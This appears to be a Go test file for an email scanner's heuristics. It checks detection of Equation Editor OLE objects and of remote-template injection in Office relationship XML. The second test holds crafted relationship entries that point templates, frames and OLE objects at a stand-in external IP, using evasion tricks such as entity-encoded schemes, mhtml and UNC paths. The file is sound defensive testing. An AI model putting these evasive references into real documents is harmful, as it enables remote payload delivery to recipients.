package heuristic

import (
	"testing"

	f "github.com/kensa-milter/kensa/internal/corpus/formats"
)

func equationCases() []sample {
	return []sample{
		{"Equation Native stream", msg(part("2", zipBytes, named("x.docx"), container()), text("2/x.docx/word/embeddings/oleObject1.bin/Equation Native", "\x1c\x00mtef")), "2/x.docx/word/embeddings/oleObject1.bin/Equation Native"},
		{"CLSID only", attach(part("2", f.CFBClass(f.EquationCLSID, []f.CFBEntry{{Name: "Contents", Parent: -1, Data: []byte("x")}}), named("o.bin"))), "2"},
		{"CompObj", msg(text("2/o.bin/\x01CompObj", "\x01\x00\xfe\xffMicrosoft Equation 3.0\x00Equation.3\x00")), "2/o.bin/\x01CompObj"},
		{"RTF member class", msg(text("2/a.rtf/object1.Equation.3.bin", "x")), "2/a.rtf/object1.Equation.3.bin"},
		{"RTF objclass escaped", attach(text("2", `{\rtf1{\object{\*\objclass Equ\'61tion.3}{\*\objdata 01}}}`, named("a.rtf"))), "2"},
		{"msg OLE object of class Equation.3", msg(part("2", []byte("msg stand-in"), named("x.msg"), container()),
			part("2/x.msg/Quote", []byte("stand-in"), named("Quote"), oleClass("{0002CE02-0000-0000-C000-000000000046}"))), "2/x.msg/Quote"},
		{"msg OLE object of class Equation.3, lower case", msg(part("2/x.msg/q", []byte("x"), named("q"), oleClass("{0002ce03-0000-0000-c000-000000000046}"))), "2/x.msg/q"},
		{"embedded object's storage of class Equation.3", msg(part("2", []byte("doc stand-in"), named("x.doc"), container()),
			part("2/x.doc/ObjectPool/_1", nil, named("_1"), container(), oleClass("{0002CE02-0000-0000-C000-000000000046}"))), "2/x.doc/ObjectPool/_1"},
		{"msg OLE object of class Word.Document.8", msg(part("2/x.msg/q", []byte("x"), named("q"), oleClass("{00020906-0000-0000-C000-000000000046}"))), ""},
		{"other CLSID", attach(part("2", f.CFB([]f.CFBEntry{{Name: "Contents", Parent: -1, Data: []byte("x")}}), named("o.bin"))), ""},
		{"RTF picture", attach(text("2", `{\rtf1{\pict\pngblip 89504e47}}`, named("a.rtf"))), ""},
		{"word equation text", msg(text("1", "The Equation Native format and Equation.3 class.")), ""},
	}
}

func TestRemoteTemplateAsOfficeReadsIt(t *testing.T) {
	cases := []struct {
		name, rel string
		want      bool
	}{
		{"single quotes, prefix", `<r:Relationship xmlns:r="x" Id='a' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://203.0.113.9/t.dotm' TargetMode='External'/>`, true},
		{"entity-encoded scheme", `<Relationship Id="a" Type="x/attachedTemplate" Target="h&#x74;tps://203.0.113.9/t.dotm" TargetMode="&#69;xternal"/>`, true},
		{"mhtml", `<Relationship Id="a" Type="x/oleObject" Target="mhtml:https://203.0.113.9/x.html!x-usc:y" TargetMode="External"/>`, true},
		{"file UNC four slashes", `<Relationship Id="a" Type="x/attachedTemplate" Target="file:////203.0.113.9/s/t.dotm" TargetMode="External"/>`, true},
		{"file host", `<Relationship Id="a" Type="x/frame" Target="file://203.0.113.9/s/t.html" TargetMode="External"/>`, true},
		{"slash UNC", `<Relationship Id="a" Type="x/subDocument" Target="//203.0.113.9/s/t.docx" TargetMode="External"/>`, true},
		{"local drive", `<Relationship Id="a" Type="x/attachedTemplate" Target="file:///C:/Users/a/Normal.dotm" TargetMode="External"/>`, false},
		{"internal", `<Relationship Id="a" Type="x/oleObject" Target="embeddings/oleObject1.bin"/>`, false},
	}
	s := newScanner(t)
	for _, c := range cases {
		got := find(scan(t, s, relsMsg(c.rel)), "remote-template") != nil
		if got != c.want {
			t.Errorf("%s: finding %v, want %v", c.name, got, c.want)
		}
	}
}
